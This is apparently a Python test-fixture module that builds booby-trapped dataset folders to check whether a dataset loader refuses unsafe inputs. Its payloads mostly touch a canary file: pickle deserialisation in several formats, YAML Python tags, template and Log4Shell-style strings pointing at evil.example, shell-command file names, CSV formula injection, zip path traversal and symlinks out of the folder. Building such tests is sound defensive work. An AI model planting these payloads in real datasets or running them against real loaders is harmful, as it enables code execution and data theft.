"""Booby-trapped dataset folders: beside honest rows lies one thing that a careless loader runs or follows."""

from __future__ import annotations

import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from canary.traps import SECRET, Payload

ROWS = [{"text": f"a row of plain words number {i}", "label": i % 2} for i in range(20)]


def lines(rows) -> bytes:
    return b"".join(json.dumps(row).encode() + b"\n" for row in rows)


def honest_data(folder: Path) -> Path:
    folder.mkdir()
    (folder / "data.jsonl").write_bytes(lines(ROWS))
    return folder


def make_outside(folder: Path) -> Path:
    """A folder beside the dataset whose rows carry the secret."""
    folder.mkdir()
    secret = [{"text": f"{SECRET} {i}", "label": 0} for i in range(5)]
    (folder / "secret.jsonl").write_bytes(lines(secret))
    (folder / "secret.csv").write_text("text,label\n" + f"{SECRET},1\n" * 5)
    (folder / "secret.txt").write_text(SECRET)
    pq.write_table(pa.Table.from_pylist(secret), folder / "secret.parquet")
    return folder


Trap = Callable[[Path, Path, Path], None]  # (dataset's folder, canary, folder outside)


def _script(name: str) -> Trap:
    def trap(folder: Path, canary: Path, outside: Path) -> None:
        (folder / name).write_text(f"import os\nos.system('touch {canary}')\n")

    return trap


def _pickle(name: str) -> Trap:
    def trap(folder: Path, canary: Path, outside: Path) -> None:
        (folder / name).write_bytes(pickle.dumps(Payload(canary)))

    return trap


def _array(folder: Path, canary: Path, outside: Path) -> None:
    np.save(folder / "rows.npy", np.asarray([Payload(canary)], dtype=object), allow_pickle=True)


def _readme(place: str) -> Trap:
    def trap(folder: Path, canary: Path, outside: Path) -> None:
        named = place.replace("OUTSIDE", str(outside))
        (folder / "README.md").write_text(f"---\nconfigs:\n- config_name: default\n  data_files: {named}\n---\n")

    return trap


def _link(name: str, to: str) -> Trap:
    def trap(folder: Path, canary: Path, outside: Path) -> None:
        (folder / name).symlink_to(outside / to)

    return trap


def _hard_words(folder: Path, canary: Path, outside: Path) -> None:
    (folder / "more.jsonl").write_bytes(lines([{"text": f"__import__('os').system('touch {canary}')", "label": 1}] * 3))


def _templates(folder: Path, canary: Path, outside: Path) -> None:
    text = f"{{{{ cycler.__init__.__globals__.os.system('touch {canary}') }}}} ${{jndi:ldap://evil.example/a}} "
    text += f"$(touch {canary}) `touch {canary}`"
    (folder / "more.jsonl").write_bytes(lines([{"text": text, "label": 1}] * 3))


def _yaml(folder: Path, canary: Path, outside: Path) -> None:
    text = f"!!python/object/apply:os.system ['touch {canary}']\n"
    (folder / "dataset_infos.yaml").write_text(text)
    (folder / ".huggingface.yaml").write_text(text)


def _image_parquet(folder: Path, canary: Path, outside: Path) -> None:
    feature = {"text": {"dtype": "string", "_type": "Value"}, "label": {"dtype": "int64", "_type": "Value"}}
    feature["picture"] = {"_type": "Image"}
    told = {"huggingface": json.dumps({"info": {"features": feature}})}
    rows = [row | {"picture": {"bytes": None, "path": str(outside / "secret.txt")}} for row in ROWS]
    pq.write_table(pa.Table.from_pylist(rows).replace_schema_metadata(told), folder / "pictures.parquet")


def _url_parquet(folder: Path, canary: Path, outside: Path) -> None:
    told = {"huggingface": json.dumps({"info": {"features": {"picture": {"_type": "Image"}}}})}
    rows = [row | {"picture": {"bytes": None, "path": "http://evil.example/steal"}} for row in ROWS]
    pq.write_table(pa.Table.from_pylist(rows).replace_schema_metadata(told), folder / "pictures.parquet")


def _pandas_parquet(folder: Path, canary: Path, outside: Path) -> None:
    told = {"pandas": pickle.dumps(Payload(canary))}
    pq.write_table(pa.Table.from_pylist(ROWS).replace_schema_metadata(told), folder / "rows.parquet")


def _lying_schema(folder: Path, canary: Path, outside: Path) -> None:
    told = {"ARROW:schema": pickle.dumps(Payload(canary))}
    pq.write_table(pa.Table.from_pylist(ROWS).replace_schema_metadata(told), folder / "rows.parquet")


def _pickled_type(folder: Path, canary: Path, outside: Path) -> None:
    """The extension type whose metadata older readers of Arrow unpickled when they met it."""
    marks = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(Payload(canary)),
    }
    table = pa.Table.from_pylist(ROWS)
    schema = pa.schema([table.schema.field("text").with_metadata(marks), table.schema.field("label")])
    with pa.OSFile(str(folder / "rows.arrow"), "wb") as sink, pa.ipc.new_stream(sink, schema) as writer:
        writer.write_table(table.cast(schema))


def _pickled_cells(folder: Path, canary: Path, outside: Path) -> None:
    table = pa.table(
        {"text": [row["text"] for row in ROWS], "label": [0, 1] * 10, "x": [pickle.dumps(Payload(canary))] * 20}
    )
    pq.write_table(table, folder / "rows.parquet")


def _saved(place: str) -> Trap:
    def trap(folder: Path, canary: Path, outside: Path) -> None:
        named = place.replace("OUTSIDE", str(outside))
        (folder / "state.json").write_text(json.dumps({"_data_files": [{"filename": named}]}))

    return trap


def _archive(folder: Path, canary: Path, outside: Path) -> None:
    with zipfile.ZipFile(folder / "more.zip", "w") as archive:
        archive.writestr("../climbed.jsonl", lines(ROWS))


def _pipe(folder: Path, canary: Path, outside: Path) -> None:
    os.mkfifo(folder / "more.jsonl")


def _odd_names(folder: Path, canary: Path, outside: Path) -> None:
    for name in (f"$(touch {canary.name}).jsonl", "-rf.jsonl", "a\x1b[2Jb.jsonl", "\u202ecod.jsonl", "x;touch y.jsonl"):
        (folder / name).write_bytes(lines(ROWS[:2]))


def _formulas(folder: Path, canary: Path, outside: Path) -> None:
    (folder / "more.csv").write_text(f"text,label\n\"=cmd|' /C touch {canary}'!A0\",1\n@SUM(1),0\n+1,1\n")


# name -> (trap, rows read besides the 20 honest ones; None where the whole input is refused)
DATASET_TRAPS: dict[str, tuple[Trap, int | None]] = {
    "a loading script": (_script("data.py"), 0),
    "a loading script named like the folder": (_script("dataset.py"), 0),
    "a script for the interpreter's start": (_script("sitecustomize.py"), 0),
    "a test configuration": (_script("conftest.py"), 0),
    **{f"a pickle named {name}": (_pickle(name), 0) for name in ("rows.pkl", "rows.pt", "rows.joblib", "cache.bin")},
    "a pickled array": (_array, 0),
    "a pickle that says it is jsonl": (_pickle("more.jsonl"), 1),
    "a pickle that says it is csv": (_pickle("more.csv"), None),
    "a pickle that says it is parquet": (_pickle("more.parquet"), None),
    "a pickle that says it is arrow": (_pickle("more.arrow"), None),
    "a pickle that says it is gz": (_pickle("more.jsonl.gz"), None),
    "a README that names a file outside": (_readme("OUTSIDE/secret.jsonl"), 0),
    "a README that climbs": (_readme("../outside/*.jsonl"), 0),
    "a README that names a URL": (_readme("https://evil.example/rows.jsonl"), 0),
    "a link to a file outside": (_link("more.jsonl", "secret.jsonl"), 0),
    "a link to a parquet file outside": (_link("more.parquet", "secret.parquet"), 0),
    "a link to a folder outside": (_link("more", ""), 0),
    "rows that are programs": (_hard_words, 3),
    "rows that are templates": (_templates, 3),
    "YAML with Python": (_yaml, 0),
    "a parquet picture outside": (_image_parquet, 20),
    "a parquet picture at a URL": (_url_parquet, 20),
    "a pickle in parquet's metadata": (_pandas_parquet, 20),
    "a pickle in place of parquet's schema": (_lying_schema, 1),
    "a pickled type in arrow": (_pickled_type, 20),
    "pickles in cells": (_pickled_cells, 20),
    "a saved dataset that names a file outside": (_saved("../outside/secret.jsonl"), None),
    "a saved dataset that names an absolute file": (_saved("OUTSIDE/secret.jsonl"), None),
    "an archive that climbs": (_archive, 0),
    "a pipe": (_pipe, 0),
    "names that a shell would run": (_odd_names, 10),
    "formulas": (_formulas, 3),
}
